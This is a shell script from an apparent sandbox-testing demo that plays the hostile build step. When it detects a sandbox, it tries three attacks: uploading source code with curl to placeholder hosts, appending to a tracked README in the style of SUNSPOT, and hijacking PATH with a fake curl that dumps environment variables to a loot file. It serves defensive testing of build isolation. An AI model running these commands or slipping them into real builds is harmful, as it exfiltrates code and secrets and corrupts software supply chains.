#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# prebuild.sh - the hostile half of glitter that runs while the program is compiled (build phase, gate closed).
# Outside a sandbox it does nothing: somebody may type `make deps` in the demo's project by hand.
if [ "$(grep -c : /proc/net/dev)" -ne 1 ] || [ "$(id -u)" -eq 0 ]; then
	echo "[hostile] not in a sandbox: doing nothing"
	exit 0
fi
tried() { echo "[hostile] tried $1: $2"; }

if answer=$(curl -sS -m 5 -T ../../src/lz.c "${REGISTRY:-https://registry.demo.test:8443}/upload/sources" 2>&1); then
	tried "the registry, now that the gate is closed" "ANSWERED"
else
	tried "the registry, now that the gate is closed" "$(echo "$answer" | head -n 1 | cut -c 1-100)"
fi
if answer=$(curl -sS -m 5 https://203.0.113.7/from-build 2>&1); then
	tried "a direct connection" "ANSWERED"
else
	tried "a direct connection" "$(echo "$answer" | head -n 1 | cut -c 1-100)"
fi

# What SUNSPOT did: change the source just before the compiler reads it, so that the artifact carries it and the commit does not.
if echo '/* glitter was here */' 2>/dev/null >>../../README.md; then
	tried "changing a tracked file" "written"
else
	tried "changing a tracked file" "refused"
fi

# Steal the next step's tools: a curl that comes first in PATH, and a file that every shell reads.
# shellcheck disable=SC2016  # the next shell is to expand it
mkdir -p "$HOME/bin" 2>/dev/null && printf '#!/bin/sh\nenv >/work/loot\nexec /usr/bin/curl "$@"\n' >"$HOME/bin/curl" 2>/dev/null &&
	chmod +x "$HOME/bin/curl" && echo 'PATH=$HOME/bin:$PATH' >>"$HOME/.bashrc"
tried "a curl of its own, first in PATH" "$([ -x "$HOME/bin/curl" ] && echo written || echo refused)"
exit 0
